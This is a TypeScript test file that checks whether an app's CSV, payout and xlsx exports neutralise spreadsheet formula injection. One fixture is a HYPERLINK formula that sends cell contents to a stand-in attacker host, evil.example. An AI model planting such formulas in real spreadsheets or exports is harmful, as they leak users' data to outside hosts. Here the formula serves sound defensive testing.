import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { signedUploadSchema } from '@pmw/contract/files';
import { leadStatusQuery } from '@pmw/contract/partner';
import { payoutRunDetailSchema } from '@pmw/contract/ops';
import { formResponses, users } from '../db/schema/index';
import { body, createTestApp, loginOps, loginWorker, type TestApp } from '../../test/test-app';
import { say } from '@pmw/contract/texts/said';

/** Every file the product writes, downloaded with a formula in a name: each comes back defused. */

const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
const DEFUSED_CSV = `"'${FORMULA.replace(/"/g, '""')}"`;
const LEAD = 9101;
const PARTNER = 4301;

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
  const db = t.database.db;
  await db.insert(formResponses).values({
    form_response_id: LEAD,
    form_id: 201,
    job_id: 201,
    partner_user_id: 101,
    customer_name: FORMULA,
    customer_mobile: '9812399101',
    status: 0,
    archive_status: 0,
    payout_paise: 0,
  });
  await db.insert(users).values({ user_id: PARTNER, mobile: '9876504301', first_name: '\tMeena', last_name: 'Iyer' });
  await t.services.documents.add({ kind: 'worker', id: PARTNER }, { user_id: PARTNER, type: 'PAN', number: 'ABCPI1234K' });
  const bank = await t.services.banks.add(PARTNER, { ifsc_code: 'HDFC0000001', account_no: '501001234543' });
  await t.services.banks.setStatus(bank.bank_detail_id, 1);
  await t.services.wallet.post({
    user_id: PARTNER,
    type: 1,
    amount_paise: 50_000,
    reason: say('wallet.leadApproved'),
    idempotency_key: 'formula:seed',
    affects_earnings: true,
  });
});
afterAll(async () => t.close());

describe('files the product writes', () => {
  it('the Leads Report CSV', async () => {
    const cookie = await loginWorker(t, '9876500001');
    const q = new URLSearchParams(Object.entries(leadStatusQuery('')).map(([k, v]) => [k, String(v)]));
    const res = await t.app.inject({ method: 'GET', url: `/api/v2/partner/report/task/data/download?${q}`, headers: { cookie } });
    expect(res.statusCode).toBe(200);
    const line = res.body.split('\r\n').find((l) => l.startsWith(`${LEAD},`));
    expect(line).toContain(`,${DEFUSED_CSV},`);
  });

  it('the NEFT payout file', async () => {
    const cookie = await loginOps(t);
    const run = await t.app.inject({
      method: 'POST',
      url: '/api/v2/ops/payouts/runs',
      headers: { cookie },
      payload: { request_key: 'formula-run-1', user_ids: [PARTNER] },
    });
    const { payout_run_id } = payoutRunDetailSchema.parse(body(run).data);
    const file = await t.app.inject({ method: 'GET', url: `/api/v2/ops/payouts/runs/${payout_run_id}/file`, headers: { cookie } });
    expect(file.statusCode).toBe(200);
    expect(file.body).toContain(",'\tMeena Iyer,");
  });

  async function dataDownload(fileName: string, bytes: Buffer) {
    const signed = await t.app.inject({
      method: 'PUT',
      url: '/api/v2/bueno/file/s3/url/signed',
      payload: { file_name: fileName, passcode: 'bueno-4821' },
      remoteAddress: '10.7.0.1',
    });
    const { url, key, content_type } = signedUploadSchema.parse(body(signed).data);
    await t.app.inject({ method: 'PUT', url, payload: bytes, headers: { 'content-type': content_type } });
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v2/bueno/output/generate',
      payload: { key, passcode: 'bueno-4821' },
      remoteAddress: '10.7.0.2',
    });
    expect(res.statusCode, res.body).toBe(200);
    return res;
  }

  it('the data download CSV, for the lead’s name and the input’s own cells', async () => {
    const res = await dataDownload('leads.csv', Buffer.from(`Lead ID,note\n${LEAD},"@SUM(1,2)"\n`));
    const line = res.body.split(/\r?\n/)[1]!;
    expect(line.startsWith(`${LEAD},"'@SUM(1,2)",`)).toBe(true);
    expect(line).toContain(DEFUSED_CSV);
  });

  it('the data download xlsx', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Leads');
    ws.addRow(['Lead ID', 'note']);
    ws.addRow([LEAD, '-2+3']);
    const res = await dataDownload('leads.xlsx', Buffer.from(await wb.xlsx.writeBuffer()));
    const out = new ExcelJS.Workbook();
    await out.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const values = (out.worksheets[0]!.getRow(2).values as unknown[]).slice(1);
    expect(values[0]).toBe(LEAD);
    expect(values[1]).toBe("'-2+3");
    expect(values).toContain(`'${FORMULA}`);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });
});
